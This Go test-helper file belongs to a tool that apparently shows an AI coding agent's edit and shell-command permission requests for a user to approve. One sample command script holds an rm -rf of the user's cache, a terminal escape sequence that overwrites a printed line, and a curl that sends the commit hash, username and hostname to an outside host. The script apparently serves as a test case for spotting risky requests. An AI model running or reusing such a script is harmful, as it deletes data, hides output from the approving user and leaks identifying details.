package card

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"bobproxy/acp/session"
	"bobproxy/inspector/keys"
	"bobproxy/inspector/model"
	"bobproxy/inspector/paint"
	"bobproxy/inspector/pane"
	"bobproxy/proxy/broker"
	"bobproxy/proxy/control"
	"bobproxy/proxy/journal"
)

var start = time.Date(2026, 9, 30, 12, 4, 27, 0, time.UTC)

// scene is a card, what it is shown, and a clock.
type scene struct {
	card  *Card
	model *model.Model
	proxy *model.Proxy
	now   time.Time
	grid  *paint.Grid
	away  bool // the focus is elsewhere

	screen int // columns of the whole screen
}

func newScene(o Options) *scene {
	m := model.New()
	p := &model.Proxy{
		Instance: "7f3a", Link: model.Live,
		Greeting: control.Greeting{Instance: "7f3a", Answers: "all"},
		State:    control.State{Instance: "7f3a", PID: 51234, Command: []string{"bob", "acp"}},
		Client:   control.Program{Name: "zed", Title: "Zed", Version: "1.5.4"},
		Agent:    control.Program{Name: "bob", Title: "Bob", Version: "2.0.8"},
	}
	p.Sessions = []*model.Session{{Proxy: p, Cwd: "/home/me/src/api", Talk: &session.Talk{Session: "sess_7f3a9c01", Title: "Fix nil token panic"}}}
	m.Proxies = []*model.Proxy{p}
	return &scene{card: New(o), model: m, proxy: p, now: start.Add(8 * time.Second), grid: paint.NewGrid(50, 33)}
}

// ask makes a request wait.
func (s *scene) ask(p *control.Pending) *model.Permission {
	n := len(s.proxy.Pending) + len(s.proxy.Closed) + 1
	if p.Request == "" {
		p.Request, p.Digest = fmt.Sprintf("7f3a:%d", n), fmt.Sprintf("%032x", n)
	}
	if p.Opened.IsZero() {
		p.Opened = start.Add(time.Duration(n-1) * time.Second)
	}
	w := &model.Permission{
		Proxy: s.proxy, Session: s.proxy.Sessions[0], Request: p.Request, Digest: p.Digest,
		Call: fmt.Sprintf("call_%04d", 41+n), Title: p.Title, Kind: p.Kind, Card: p, Opened: p.Opened, Seq: uint64(n), Frame: uint64(n),
	}
	s.proxy.Pending = append(s.proxy.Pending, w)
	return w
}

// settle takes a request off the queue.
func (s *scene) settle(w *model.Permission, d journal.Decision) {
	d.Request, d.Digest = w.Request, w.Digest
	w.Decision, w.Closed = &d, s.now
	s.take(w)
}

func (s *scene) take(w *model.Permission) {
	for i, p := range s.proxy.Pending {
		if p == w {
			s.proxy.Pending = append(s.proxy.Pending[:i:i], s.proxy.Pending[i+1:]...)
			s.proxy.Closed = append(s.proxy.Closed, w)
		}
	}
}

func (s *scene) context() pane.Context {
	return pane.Context{Now: s.now, Model: s.model, Focus: !s.away, Home: "/home/me", Screen: s.screen}
}

// draw paints, without its being shown.
func (s *scene) draw() { s.grid.Clear(s.grid.W, s.grid.H); s.card.Draw(s.grid.All(), s.context()) }

// frame paints what is needed and shows it.
func (s *scene) frame() {
	s.draw()
	s.card.Shown(s.now)
	for range 3 {
		if next := s.card.Next(s.now); next.IsZero() || next.After(s.now) {
			return
		}
		s.draw()
		s.card.Shown(s.now)
	}
}

// wait lets time pass, in which what is needed is painted when it is needed.
func (s *scene) wait(d time.Duration) {
	end := s.now.Add(d)
	for next := s.card.Next(s.now); next.After(s.now) && next.Before(end); next = s.card.Next(s.now) {
		s.now = next
		s.frame()
	}
	s.now = end
	s.frame()
}

// stop lets time pass in which nothing is painted.
func (s *scene) stop(d time.Duration) { s.now = s.now.Add(d) }

// press is a key and what the panel does with it; what was wished for comes
// back.
func (s *scene) press(list ...keys.Key) (wishes []pane.Wish) {
	table := keys.Default()
	for _, k := range list {
		made, used := s.card.Key(k, s.now, s.context())
		if !used {
			if do, ok := table.Find(keys.Card, k); ok {
				made = append(made, s.card.Do(do, s.context())...)
			}
		}
		wishes = append(wishes, made...)
		s.frame()
		s.now = s.now.Add(10 * time.Millisecond)
	}
	return wishes
}

// look shows a request and waits until the card is armed.
func (s *scene) look(w *model.Permission) {
	s.card.Show(w, s.now)
	s.frame()
	s.wait(time.Second)
}

// whole is the pane with what the panel puts above it.
func (s *scene) whole() *paint.Grid {
	ctx := s.context()
	h := s.card.Head(ctx)
	g := paint.NewGrid(s.grid.W, s.grid.H+3)
	all := g.All()
	all.Both(0, paint.L(paint.Heading, " "+s.card.Heading(ctx)), append(h.Right, paint.S(paint.Plain, " ")))
	all.Rows(1, 1).In(1, 1).Both(0, h.Status, h.StatusRight)
	all.Rule(2)
	s.card.Draw(all.Rows(3, s.grid.H), ctx)
	return g
}

func options3() []control.Option {
	return []control.Option{
		{Number: 1, ID: "allow", Name: "Yes, apply this edit", Kind: "allow_once"},
		{Number: 2, ID: "always", Name: "Yes, and don't ask again", Kind: "allow_always"},
		{Number: 3, ID: "no", Name: "No, tell Bob what to do", Kind: "reject_once"},
	}
}

func until(d time.Duration) *time.Time { t := start.Add(d); return &t }

func raw(v any) json.RawMessage {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

func diffOf(path string, before any, after string) map[string]any {
	return map[string]any{"type": "diff", "path": path, "oldText": before, "newText": after}
}

func inside(paths ...string) broker.Verdict {
	v := broker.Verdict{Level: broker.LevelInside, Text: "inside the workspace"}
	for _, p := range paths {
		v.Paths = append(v.Paths, broker.Path{Path: p, Inside: true})
	}
	return v
}

const oldToken = "package auth\n\nimport \"time\"\n\ntype Token struct {\n\texp time.Time\n}\n\nfunc (t *Token) Expired() bool {\n\treturn time.Now() > t.exp\n}\n"
const newToken = "package auth\n\nimport \"time\"\n\ntype Token struct {\n\texp time.Time\n}\n\nfunc (t *Token) Expired() bool {\n\tif t == nil { return true }\n\treturn time.Now().After(t.exp)\n}\n"

func edit() *control.Pending {
	return &control.Pending{
		Title: "Edit src/auth/token.go", Kind: "edit", Verdict: inside("src/auth/token.go"),
		Input:   raw(map[string]any{"file_path": "src/auth/token.go", "content": newToken}),
		Content: raw([]any{diffOf("src/auth/token.go", oldToken, newToken)}), Deadline: until(time.Minute), Options: options3(),
	}
}

const script = `set -e
rm -rf build/ "$HOME/.cache/go-build"
export CGO_ENABLED=0
printf '%s\n' "done` + "\x1b[2K\x1b[1A" + `"
for d in cmd/*; do
  go build -trimpath -o "build/$(basename "$d")" "./$d"
done
curl -fsS https://example.org/report?id=$(git rev-parse HEAD)&who=$(whoami)&host=$(hostname) >/dev/null
test -d build
ls -l build
sha256sum build/* > build/SUMS
cat build/SUMS
make check
echo done
`

func command() *control.Pending {
	return &control.Pending{
		Title: "Clean and rebuild", Kind: "execute",
		Verdict: broker.Verdict{Level: broker.LevelOutside, Paths: []broker.Path{{Path: "/home/me/.cache/go-build", Reason: "outside"}}},
		Input:   raw(map[string]any{"command": script}), Cwd: "/home/me/src/api", Deadline: until(5 * time.Minute),
		Options: []control.Option{
			{Number: 1, ID: "once", Name: "Yes, run once", Kind: "allow_once"},
			{Number: 2, ID: "always", Name: "Yes, and always allow “make” tasks", Kind: "allow_always"},
			{Number: 3, ID: "no", Name: "No", Kind: "reject_once"},
		},
	}
}

func lines(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "echo %d\n", i+1)
	}
	return b.String()
}

const (
	lostLink     = model.Lost
	recordedLink = model.Recorded
)

func unmarshal(data []byte, v any) {
	if err := json.Unmarshal(data, v); err != nil {
		panic(err)
	}
}
